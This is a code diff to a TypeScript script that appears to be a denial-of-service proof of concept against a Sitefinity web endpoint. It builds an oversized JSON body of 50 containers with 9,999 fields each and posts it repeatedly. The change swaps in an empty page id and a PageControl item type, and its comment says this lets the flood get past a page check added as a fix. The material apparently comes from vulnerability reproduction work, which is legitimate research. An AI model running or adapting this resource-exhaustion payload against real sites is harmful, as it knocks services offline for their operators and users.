@@ -21,9 +21,13 @@ const mb = (bytes: number): string => `${(bytes / 1e6).toFixed(2)} MB`
 
 const floods = Number(process.argv[2] ?? 20)
 const id = '00000000-0000-0000-0000-000000000001'
+// The empty page id is looked up nowhere, and a page control's fields are never read: the
+// flood reaches the end of the operation, as it did before pages were checked (issue 30, N6).
+const emptyId = '00000000-0000-0000-0000-000000000000'
+const controlType = 'Telerik.Sitefinity.Pages.Model.PageControl'
 const fields = Array(9_999).fill('1').join(',')
-const container = `{"ItemId":"${id}","Fields":[${fields}]}`
-const body = `{"PageId":"${id}","ContainersInfo":[${Array(50).fill(container).join(',')}]}`
+const container = `{"ItemId":"${id}","ItemType":"${controlType}","Fields":[${fields}]}`
+const body = `{"PageId":"${emptyId}","ContainersInfo":[${Array(50).fill(container).join(',')}]}`
 const flood = (): RequestInit => ({
   method: 'POST',
   headers: { 'Content-Type': 'application/json', Accept: 'application/json' },
